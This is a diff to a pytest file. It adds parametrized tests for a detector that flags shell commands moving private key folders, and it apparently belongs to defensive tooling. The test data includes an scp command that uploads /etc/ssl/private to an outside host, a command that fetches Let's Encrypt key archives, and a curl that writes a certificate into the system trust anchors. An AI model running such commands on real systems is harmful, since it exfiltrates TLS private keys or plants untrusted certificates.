@@ -215,6 +215,18 @@ def test_whether_a_line_sends_anything(line: str, sends: bool) -> None:
     assert keyfiles.sends(windows(line)) is sends
 
 
+@pytest.mark.parametrize(
+    ("line", "indicators"),
+    [
+        ("scp -r root@web:/etc/letsencrypt/archive /home/ann/x", ["fetch_key"]),
+        ("scp -r /etc/ssl/private/ ann@h.example:/tmp", ["upload_key_file"]),
+        ("scp -r root@web:/etc/nginx /home/ann/letsencrypt", []),
+    ],
+)
+def test_folders_of_private_keys(line: str, indicators: list[str]) -> None:
+    assert found(keyfiles.judge(posix(line))) == indicators
+
+
 def test_certificates_that_are_fetched_into_the_folders_of_anchors() -> None:
     report = keyfiles.judge(posix("curl -o /etc/pki/trust/anchors/a.pem https://h/a.pem"))
     assert report is not None
